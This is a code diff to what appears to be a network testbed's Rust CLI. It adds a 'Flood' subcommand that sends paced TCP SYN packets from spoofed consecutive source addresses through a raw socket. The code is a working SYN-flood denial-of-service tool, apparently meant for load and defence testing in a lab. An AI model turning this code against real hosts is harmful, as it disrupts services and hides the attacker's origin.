@@ -82,6 +82,19 @@ enum Command {
         #[arg(long, default_value_t = 30)]
         timeout_s: u64,
     },
+    /// Sends `count` TCP SYNs to `to` from spoofed sources (consecutive
+    /// addresses from `sources`), at `rate` per second, through a raw
+    /// socket: a SYN flood from many clients. Prints how many were sent.
+    Flood {
+        #[arg(long)]
+        to: std::net::SocketAddrV4,
+        #[arg(long)]
+        sources: std::net::Ipv4Addr,
+        #[arg(long)]
+        count: u32,
+        #[arg(long)]
+        rate: u32,
+    },
     Connect {
         #[arg(long)]
         to: SocketAddr,
@@ -465,6 +478,69 @@ fn transfer(to: SocketAddr, bytes: usize, timeout: Duration) -> Result<()> {
     Ok(())
 }
 
+fn flood(
+    to: std::net::SocketAddrV4,
+    sources: std::net::Ipv4Addr,
+    count: u32,
+    rate: u32,
+) -> Result<()> {
+    use dataplane_testbed::packets::{ETH_HLEN, Endpoint, TCP_SYN, tcp};
+    use std::os::fd::{AsRawFd as _, FromRawFd as _, OwnedFd};
+    // SAFETY: socket(2) with constant arguments; the descriptor is owned.
+    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
+    if fd < 0 {
+        return Err(std::io::Error::last_os_error()).context("opening a raw socket");
+    }
+    // SAFETY: a fresh descriptor we own from here on.
+    let socket = unsafe { OwnedFd::from_raw_fd(fd) };
+    let destination = libc::sockaddr_in {
+        sin_family: libc::AF_INET as libc::sa_family_t,
+        sin_port: 0,
+        sin_addr: libc::in_addr {
+            s_addr: u32::from_ne_bytes(to.ip().octets()),
+        },
+        sin_zero: [0; 8],
+    };
+    let target = Endpoint {
+        ip: *to.ip(),
+        port: to.port(),
+    };
+    let started = Instant::now();
+    let mut sent = 0u32;
+    for i in 0..count {
+        let source = Endpoint {
+            ip: std::net::Ipv4Addr::from(u32::from(sources).wrapping_add(i)),
+            port: 1024 + (i % 60_000) as u16,
+        };
+        let frame = tcp(source, target, TCP_SYN, b"");
+        let packet = &frame[ETH_HLEN..];
+        // SAFETY: a valid socket, buffer and address of the right size.
+        let rc = unsafe {
+            libc::sendto(
+                socket.as_raw_fd(),
+                packet.as_ptr().cast(),
+                packet.len(),
+                0,
+                (&raw const destination).cast(),
+                std::mem::size_of::<libc::sockaddr_in>() as libc::socklen_t,
+            )
+        };
+        if rc >= 0 {
+            sent += 1;
+        }
+        // Pace: never ahead of `rate` per second.
+        let due = Duration::from_secs_f64(f64::from(i + 1) / f64::from(rate.max(1)));
+        if let Some(wait) = due.checked_sub(started.elapsed()) {
+            std::thread::sleep(wait);
+        }
+    }
+    println!(
+        "{}",
+        serde_json::json!({"sent": sent, "seconds": started.elapsed().as_secs_f64()})
+    );
+    Ok(())
+}
+
 fn http_get(to: SocketAddr, path: &str) -> Result<()> {
     use std::io::Read as _;
     let mut stream = TcpStream::connect_timeout(&to, Duration::from_secs(2))
@@ -491,6 +567,12 @@ fn main() -> Result<()> {
     match Cli::parse().command {
         Command::Serve { listen, name } => serve(listen, &name),
         Command::HttpGet { to, path } => http_get(to, &path),
+        Command::Flood {
+            to,
+            sources,
+            count,
+            rate,
+        } => flood(to, sources, count, rate),
         Command::Transfer {
             to,
             bytes,
